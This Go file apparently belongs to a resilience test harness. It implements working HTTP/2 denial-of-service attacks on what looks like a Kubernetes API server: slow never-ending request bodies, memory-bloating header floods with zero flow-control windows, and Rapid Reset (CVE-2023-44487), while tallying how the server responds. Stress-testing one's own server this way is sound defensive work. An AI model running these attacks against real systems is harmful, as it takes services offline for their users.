package hostile

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"syscall"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// smallBuffers keeps the kernel from reading in place of a client that does not.
func smallBuffers(_, _ string, c syscall.RawConn) error {
	var err error
	if failed := c.Control(func(fd uintptr) {
		err = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4<<10)
	}); failed != nil {
		return failed
	}
	return err
}

// shake makes a connection TLS, as an administrator's.
func (a *attacker) shake(ctx context.Context, raw net.Conn) (net.Conn, error) {
	c := a.admin.Clone()
	c.NextProtos = []string{"http/1.1"}
	conn := tls.Client(raw, c)
	context.AfterFunc(ctx, func() { _ = raw.Close() })
	return conn, conn.HandshakeContext(ctx)
}

// stream is a connection that speaks HTTP/2 by hand.
type stream struct {
	conn   net.Conn
	framer *http2.Framer
	head   bytes.Buffer
	coder  *hpack.Encoder
	next   uint32
}

// openStream begins HTTP/2, with an initial window that says how much of each
// answer is to come.
func (a *attacker) openStream(ctx context.Context, c *tls.Config, window uint32) (*stream, error) {
	conn, err := a.dial(ctx, c, "h2")
	if err != nil {
		return nil, err
	}
	s := &stream{conn: conn, framer: http2.NewFramer(conn, nil), next: 1}
	s.coder = hpack.NewEncoder(&s.head)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	return s, s.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
}

// ask opens one more stream with a request, whose body may follow.
func (s *stream) ask(method, path string, body bool, fields ...hpack.HeaderField) (uint32, error) {
	s.head.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "x"}, {Name: ":path", Value: path},
	}, fields...) {
		if err := s.coder.WriteField(f); err != nil {
			return 0, err
		}
	}
	id := s.next
	s.next += 2
	block, first := s.head.Bytes(), true
	for {
		n := min(len(block), 16<<10)
		part, last := block[:n], n == len(block)
		var err error
		if first {
			err = s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: part, EndHeaders: last, EndStream: !body})
		} else {
			err = s.framer.WriteContinuation(id, last, part)
		}
		if err != nil || last {
			return id, err
		}
		block, first = block[n:], false
	}
}

// drain reads what the server says, so that it is not the one who waits.
func (s *stream) drain(a *attacker) {
	if _, err := io.Copy(io.Discard, s.conn); err != nil {
		a.meet("connection ended")
	}
}

// slowStreams opens streams with bodies that never end, a hundred on each connection.
func slowStreams(ctx context.Context, a *attacker) error {
	a.many(ctx, connections()/10, 32, func(ctx context.Context, i int) {
		s, err := a.openStream(ctx, a.admin, 65535)
		if err != nil {
			a.meet("refused")
			return
		}
		go s.drain(a) // ends with the connection
		for range 100 {
			id, err := s.ask("POST", configMaps, true, hpack.HeaderField{Name: "content-type", Value: typeJSON})
			if err == nil {
				err = s.framer.WriteData(id, false, bytes.Repeat([]byte{' '}, 10_000))
			}
			if err != nil {
				a.meet("closed")
				return
			}
			a.meet("streams")
		}
	})
	<-ctx.Done()
	return nil
}

// unreadAnswers asks for many things and lets nothing of the answers come, with
// headers that are short on the wire and long in memory.
func unreadAnswers(ctx context.Context, a *attacker) error {
	fields := make([]hpack.HeaderField, 0, 8000)
	for range cap(fields) {
		fields = append(fields, hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 60)})
	}
	a.many(ctx, connections()/20, 16, func(ctx context.Context, i int) {
		s, err := a.openStream(ctx, []*tls.Config{a.admin, a.stranger}[i%2], 0)
		if err != nil {
			a.meet("refused")
			return
		}
		go s.drain(a) // ends with the connection
		for range 100 {
			if _, err := s.ask("GET", "/openapi/v2", false, fields...); err != nil {
				a.meet("closed")
				return
			}
			a.meet("streams")
		}
	})
	<-ctx.Done()
	return nil
}

// rapidResets opens streams and resets them at once (CVE-2023-44487).
func rapidResets(ctx context.Context, a *attacker) error {
	a.again(ctx, 8, func(ctx context.Context, i int) {
		s, err := a.openStream(ctx, []*tls.Config{a.admin, a.stranger}[i%2], 65535)
		if err != nil {
			if ctx.Err() == nil {
				a.meet("refused")
			}
			return
		}
		defer s.conn.Close()
		go s.drain(a) // ends with the connection
		for ctx.Err() == nil {
			id, err := s.ask("GET", configMaps, false)
			if err == nil {
				err = s.framer.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil {
				a.meet("connections that were ended")
				return
			}
			if id%1999 == 0 {
				a.meet("thousands of resets")
			}
		}
	})
	return nil
}
